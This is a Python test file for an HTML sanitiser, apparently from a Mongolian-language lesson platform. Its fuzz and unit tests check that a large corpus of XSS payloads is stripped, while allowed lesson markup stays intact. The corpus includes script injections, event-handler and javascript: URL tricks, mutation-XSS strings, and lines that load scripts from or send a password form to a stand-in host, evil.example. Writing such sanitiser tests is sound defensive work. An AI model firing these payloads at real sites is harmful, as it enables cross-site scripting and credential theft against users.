"""Nothing outside the written list survives, whatever is thrown at it."""
# ruff: noqa: E501  a corpus reads best with one string a line

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.core.html import ALLOWED, clean, is_allowed, parser

XHTML = "{http://www.w3.org/1999/xhtml}"


def strangers(html: str) -> list[str]:
    """What a browser would make of a piece of HTML that our list does not know."""
    found = []
    for element in html5lib.parseFragment(html).iter():
        if not isinstance(element.tag, str):
            found.append("a comment")
            continue
        tag = element.tag.removeprefix(XHTML)
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if tag not in ALLOWED:
            found.append(f"<{tag}>")
        found += [
            f"{tag} {name}={value!r}" for name, value in element.items() if not is_allowed(tag, name, value)
        ]
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/a.svg' onload='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=http://plain.example>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='#x' onclick=alert(1)>x</a>",
    "<a href='#x' onmouseover='alert(1)' style='color:red'>x</a>",
    "<a href='#x' target=_blank>x</a>",
    "<a href='#x' ping=//evil.example>x</a>",
    "<a href='/x' download>x</a>",
    "<a id='\"><script>alert(1)</script>'>x</a>",
    "<a class='x\" onfocus=alert(1) autofocus=\"'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=//evil.example><input name=password></form>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='//evil.example'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><a href='</title><script>alert(1)</script>'>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<td><script>alert(1)</script></td>",
    "<h2 id='1x'>x</h2><h2 id='s1' onclick=x>x</h2>",
    "<div role=button tabindex=5 contenteditable>x</div>",
    "<x-element onclick=alert(1)>x</x-element>",
    "<p/onclick=alert(1)>x",
    "<p onclick\n=\nalert(1)>x",
    "<<p>script>alert(1)<</p>/script>",
    "\x00<s\x00cript>alert(1)</s\x00cript>",
    "＜script＞alert(1)＜/script＞",
    "<img alt='&lt;script&gt;' src='/media/a.svg'><",
    "<a href=\"/x\" href=\"javascript:alert(1)\">x</a>",
    "<sup><sup><sup onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ol start='1;alert(1)'><li>x</ol>",
    "<img src='/media/../../x.svg' width='10%' height='99999'>",
]  # fmt: skip


def test_the_corpus_is_large_and_its_measure_sees():
    assert len({attack for attack in ATTACKS if strangers(attack)}) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_as_html(attack):
    assert strangers(clean(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_as_markdown(attack):
    assert strangers(clean(parser().render(attack))) == []
    assert (
        strangers(clean(parser().render(f"## {attack}\n\n- [x]({attack})\n- ![{attack}](<{attack}>)\n")))
        == []
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_clean_stays_as_it_is(attack):
    assert clean(clean(attack)) == clean(attack)


PIECES = [
    "<", ">", "</", "/>", "\"", "'", "`", "=", "&", ";", "#", "\x00", "\n", " ", "<!--", "-->", "<![CDATA[", "]]>",
    "<?", "<!", "script", "style", "svg", "math", "img", "a", "p", "div", "table", "td", "noscript", "template",
    "title", "textarea", "mglyph", "mtext", "iframe", "form", "onerror", "onclick", "href", "src", "id", "class",
    "style=", "javascript:", "data:", "https://a.mn", "//a.mn", "/x", "&#x3c;", "&lt;", "&quot;", "Ө", "ү", "\\",
]  # fmt: skip
SOUP = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=30).map("".join)


@given(SOUP)
def test_of_any_text_only_what_the_list_allows_is_left(soup):
    assert strangers(clean(soup)) == []


@given(SOUP)
def test_of_any_markdown_only_what_the_list_allows_is_left(soup):
    assert strangers(clean(parser().render(soup))) == []


GOOD = [
    '<p>Сайн <strong>байна</strong> <em>уу</em>?<br>Тийм.</p>',
    '<h2 id="s1">Гарчиг</h2><h3>Дэд гарчиг</h3>',
    '<a href="https://gic.mn/post/r/1728?x=1&amp;y=2#top" rel="noopener">эх сурвалж</a>',
    '<a href="/lessons/budget-cycle">хичээл</a>',
    '<a class="term" id="r-budget" href="#t-budget">төсөв</a>',
    '<sup><a href="#src-s1" id="c-s1" aria-label="Эх сурвалж 1">[1]</a></sup>',
    '<div class="scroll" tabindex="0" role="region" aria-label="Хүснэгт 1"></div>',
    ('<table><thead><tr><th scope="col" class="num">₮</th></tr></thead>'
    '<tbody><tr><th scope="row">А</th><td class="num">1,000</td></tr></tbody></table>'),
    ('<figure><a href="/media/02-budget/a.mn.svg"><img src="/media/02-budget/a.mn.svg" alt="Зураг"'
    ' width="720" height="400" loading="lazy"></a><figcaption>Тайлбар</figcaption></figure>'),
    '<ol start="3"><li>гурав</li></ol><ul><li>нэг</li></ul><blockquote><p>үг</p></blockquote>',
    '<div class="box do" id="exercise"><b class="exercise">Дасгал · 5 минут</b></div>',
]  # fmt: skip


@pytest.mark.parametrize("html", GOOD)
def test_what_a_lesson_needs_passes_unchanged(html):
    assert clean(html) == html


def test_words_between_refused_tags_stay():
    assert clean("<blink>Төсөв</blink> <script>1 < 2</script>") == "Төсөв 1 &lt; 2"


def test_markdown_passes_no_html_on():
    assert parser().render("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_nothing_in_markdown_vanishes_silently():
    assert "[x]: https://a.mn" in parser().render("[x]: https://a.mn")
    assert "<h" not in parser().render("Гарчиг\n======\n")
